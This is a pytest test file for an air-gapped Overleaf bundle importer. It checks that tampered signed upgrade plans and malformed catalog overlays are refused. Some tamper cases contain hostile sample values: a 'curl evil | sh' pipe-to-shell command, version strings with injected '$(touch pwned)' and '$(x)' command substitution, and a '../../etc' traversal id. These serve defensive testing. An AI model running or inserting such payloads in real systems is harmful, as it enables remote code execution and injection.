"""The importer re-plans from its own catalog (importer/images/plan_check.py) and the signed catalog overlay
(manifests/catalog.py: overlay_for_manifest, overlay_from_manifest, catalog_with_overlay)."""
from __future__ import annotations

import copy
from types import SimpleNamespace

import pytest

from importer.images.plan_check import PlanMismatchError, check_plan
from manifests.catalog import (Release, apply_overlay, catalog_with_overlay, load_catalog, overlay_for_manifest,
                               overlay_from_manifest)
from manifests.errors import CatalogError
from manifests.planner import PlanRequest, make_plan
from manifests.versions import AppVersion

CAT = load_catalog(overlay=False)

REQUESTS = [
    PlanRequest(current="3.5.10"),
    PlanRequest(current="4.2.8", target="6.2.2"),
    PlanRequest(current="5.5.3", target="latest-patch"),
    PlanRequest(current="3.5.10-with-texlive-full", target="5.5.8"),
    PlanRequest(current="4.2.8", edition="pro", git_bridge=True, tls_proxy=True, texlive=("2023.1",),
                mongo="5.0", redis="6.2"),
    PlanRequest(current="3.2.0", edition="pro", git_bridge=True, tls_proxy=True, nginx_image="nginx:1.20",
                app_image="reg.local:5000/ol/sharelatex-pro", git_bridge_image="reg.local:5000/gb",
                mongo_image="reg.local:5000/mongo", redis_image="reg.local:5000/redis"),
    PlanRequest(current="5.5.8", target="5.5.8"),
]


def manifest_for(plan: dict, overlay: dict | None = None, tool: str = "0.1.0") -> SimpleNamespace:
    """What check_plan reads of a BundleManifest."""
    return SimpleNamespace(plan=plan, from_version=plan["from"], to_version=plan["to"], edition=plan["edition"],
                           tool_version=tool, catalog_overlay=overlay)


@pytest.mark.parametrize("req", REQUESTS, ids=lambda r: f"{r.current}->{r.target}/{r.edition}")
def test_the_plan_the_bundler_made_passes(req):
    check_plan(manifest_for(make_plan(CAT, req).to_dict()), CAT)


def _plan() -> dict:
    return make_plan(CAT, PlanRequest(current="3.5.10", target="5.5.8")).to_dict()


def _edit_migration(p: dict) -> None:
    next(s for s in p["steps"] if s["kind"] == "migration")["command"] = "curl evil | sh"


def _edit_version(p: dict) -> None:
    next(s for s in p["steps"] if s["kind"] == "app")["version"] = "4.2.9$(touch pwned)"


def _edit_id(p: dict) -> None:
    p["steps"][0]["id"] = "../../etc"


def _drop_backup(p: dict) -> None:
    p["steps"] = [s for s in p["steps"] if s["kind"] != "backup"]


def _extra_step(p: dict) -> None:
    p["steps"].append(dict(p["steps"][-1], id="99-app-x"))


@pytest.mark.parametrize("edit", [_edit_migration, _edit_version, _edit_id, _drop_backup, _extra_step])
def test_a_signed_plan_that_differs_is_refused_and_says_which_bundler_made_it(edit):
    plan = _plan()
    edit(plan)
    with pytest.raises(PlanMismatchError) as info:
        check_plan(manifest_for(plan, tool="9.9.9"), CAT)
    assert info.value.exit_code == 10
    assert "made by overleaf-airgap 9.9.9" in info.value.hint and "README-OFFLINE" in info.value.hint


def test_manifest_fields_must_match_the_plan():
    plan = _plan()
    m = manifest_for(plan)
    m.to_version = "6.2.2"
    with pytest.raises(PlanMismatchError, match="plan says to"):
        check_plan(m, CAT)


def test_a_version_the_importer_does_not_know_points_to_the_carried_importer():
    plan = _plan()
    plan["to"] = "5.9.1"
    with pytest.raises(PlanMismatchError, match="cannot plan") as info:
        check_plan(manifest_for(plan, tool="0.2.0"), CAT)
    assert "install the importer it carries" in info.value.hint


def _refreshed_catalog() -> tuple:
    new = Release(AppVersion.parse("6.2.99"), source="tags/list of a registry", from_overlay=True)
    return apply_overlay(CAT, [new])


def test_a_plan_made_with_an_overlay_passes_with_that_overlay_only():
    bundler_cat = _refreshed_catalog()
    overlay = overlay_for_manifest(None, bundler_cat)
    assert overlay == {"schema": 1, "releases": [{"version": "6.2.99", "source": "tags/list of a registry"}]}
    plan = make_plan(bundler_cat, PlanRequest(current="5.5.8", target="latest")).to_dict()
    assert plan["to"] == "6.2.99"
    check_plan(manifest_for(plan, overlay), CAT)
    with pytest.raises(PlanMismatchError):
        check_plan(manifest_for(plan, None), CAT)  # without the overlay this importer cannot reach 6.2.99


@pytest.mark.parametrize("overlay,match", [
    ({"schema": 1, "releases": [{"version": "7.0.0"}]}, "new major"),
    ({"schema": 1, "releases": [{"version": "6.2.99", "status": "retracted"}]}, "only version, date and source"),
    ({"schema": 1, "releases": [{"version": "6.2.99"}], "requirements": []}, "never rules"),
    ({"schema": 1, "releases": [{"version": "6.2.99-RC1"}]}, "plain X.Y.Z"),
    ({"schema": 1, "releases": [{"version": "6.2.99$(x)"}]}, "plain X.Y.Z"),
    ({"schema": 1, "releases": [{"version": "6.2.99", "date": "yesterday"}]}, "YYYY-MM-DD"),
    ({"schema": 2, "releases": []}, "schema: 1"),
    ({"schema": 1, "releases": [{"version": "6.2.99"}, {"version": "6.2.99"}]}, "twice"),
    ({"schema": 1, "releases": [{"version": "6.2.99"}] * 501}, "at most"),
])
def test_overlay_adds_only_published_patch_releases_of_known_majors(overlay, match):
    with pytest.raises(CatalogError, match=match):
        overlay_from_manifest(overlay, CAT)
    plan = _plan()
    with pytest.raises(PlanMismatchError, match="overlay is refused"):
        check_plan(manifest_for(plan, overlay), CAT)


def test_overlay_never_overrides_what_the_importer_knows():
    # 3.0.0 is "unpublished" in the importer's catalog: an overlay cannot make it published
    cat = catalog_with_overlay(CAT, {"schema": 1, "releases": [{"version": "3.0.0"}, {"version": "5.5.99"}]})
    assert cat.find(AppVersion.parse("3.0.0")).status == "unpublished"
    assert cat.find(AppVersion.parse("5.5.99")).status == "published"
    assert cat.rules == CAT.rules and cat.migrations == CAT.migrations


def test_plan_is_copied_not_changed():
    plan = _plan()
    before = copy.deepcopy(plan)
    check_plan(manifest_for(plan), CAT)
    assert plan == before
